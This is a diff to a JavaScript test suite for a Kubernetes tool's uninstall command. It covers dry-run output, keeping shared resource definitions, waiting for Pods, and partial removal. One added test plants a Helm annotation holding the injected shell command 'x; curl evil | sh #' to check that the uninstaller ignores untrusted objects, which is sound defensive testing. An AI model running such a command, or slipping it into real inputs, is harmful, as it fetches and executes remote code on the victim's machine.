@@ -74,20 +74,23 @@ describe("uninstall", () => {
   it("says what would go", async () => {
     const cluster = installed();
     const said = await say(["uninstall", "--dry-run"], cluster);
-    assert.deepEqual(said, { code: 0, out: `These would go:\n${listed}${kept}`, err: "" });
+    assert.deepEqual(said, { code: 0, out: `These would go from https://k.example:\n${listed}${kept}`, err: "" });
     assert.deepEqual(cluster.done.removed, []);
   });
 
   it("removes the webhook's configuration first, and keeps the definitions", async () => {
     const cluster = installed();
     const said = await say(["uninstall", "--yes"], cluster);
-    assert.deepEqual(said, { code: 0, out: `These go:\n${listed}${kept}Removed.\n`, err: "" });
+    assert.deepEqual(said, { code: 0, out: `These go from https://k.example:\n${listed}${kept}Removed.\n`, err: "" });
     assert.deepEqual(
       cluster.done.removed.map((key) => key.split("/")[1]),
       ["ValidatingWebhookConfiguration", "Deployment", "ClusterRole", "Lease"],
     );
     const again = await say(["uninstall", "--yes"], cluster);
-    assert.deepEqual([again.code, again.out], [0, `Nothing of Clickscribe is left to remove.\n${kept}`]);
+    assert.deepEqual(
+      [again.code, again.out],
+      [0, `Nothing of Clickscribe is left to remove from https://k.example.\n${kept}`],
+    );
   });
 
   it("removes the definitions and what lends Secrets where that is asked for", async () => {
@@ -132,8 +135,50 @@ describe("uninstall", () => {
     assert.match(several.err, /choose one with --instance clickscribe or two\n$/);
     assert.match(
       (await say(["uninstall", "--dry-run", "--instance", "two"], cluster)).out,
-      /^These would go:\n {2}ClusterRole two\n\n/,
+      /^These would go from https:\/\/k\.example:\n {2}ClusterRole two\n\n/,
     );
+  });
+
+  it("keeps the definitions while another installation needs them", async () => {
+    const cluster = installed();
+    const release = { "meta.helm.sh/release-name": "two", "meta.helm.sh/release-namespace": "other" };
+    put(cluster, "ClusterRole", "two", { instance: "two", annotations: release });
+    put(cluster, "Deployment", "two", { instance: "two", namespace: "other", annotations: release });
+    for (const args of [["--yes"], ["--dry-run"]]) {
+      const refused = await say(["uninstall", "--crds", "--instance", "clickscribe", ...args], cluster);
+      assert.deepEqual([refused.code, cluster.done.removed], [1, []]);
+      assert.match(refused.err, /two needs the CustomResourceDefinitions: .* without --crds\n$/);
+    }
+    const { code } = await say(["uninstall", "--instance", "clickscribe", "--yes"], cluster);
+    assert.equal(code, 0);
+    assert.ok(cluster.done.removed.every((key) => !key.includes("two")));
+  });
+
+  it("waits for the Pods of this installation alone", async () => {
+    const cluster = installed();
+    put(cluster, "ClusterRole", "two", { instance: "two" });
+    put(cluster, "Deployment", "two", { instance: "two", namespace: system });
+    put(cluster, "Pod", "two-1", { instance: "two", namespace: system });
+    const { code, err } = await say(["uninstall", "--yes", "--instance", "clickscribe", "--timeout", "3s"], cluster);
+    assert.deepEqual([code, err], [0, ""]);
+  });
+
+  it("believes no release and no installation that only a namespace's objects tell of", async () => {
+    const cluster = installed();
+    const annotations = { "meta.helm.sh/release-name": "x; curl evil | sh #", "meta.helm.sh/release-namespace": "a" };
+    put(cluster, "Deployment", "bait", { namespace: "tenant", instance: "mallory", annotations });
+    const { code, out } = await say(["uninstall", "--yes"], cluster);
+    assert.equal(code, 0);
+    assert.doesNotMatch(out, /bait/);
+    assert.ok(!cluster.done.removed.some((key) => key.includes("bait")));
+  });
+
+  it("takes what is left of a half-removed installation", async () => {
+    const cluster = createCliCluster(kinds);
+    put(cluster, "Deployment", "clickscribe", { namespace: system });
+    const { code, out } = await say(["uninstall", "--yes"], cluster);
+    assert.equal(code, 0);
+    assert.match(out, /Deployment clickscribe-system\/clickscribe\n/);
   });
 
   it("says what is left after the timeout, and why", async () => {
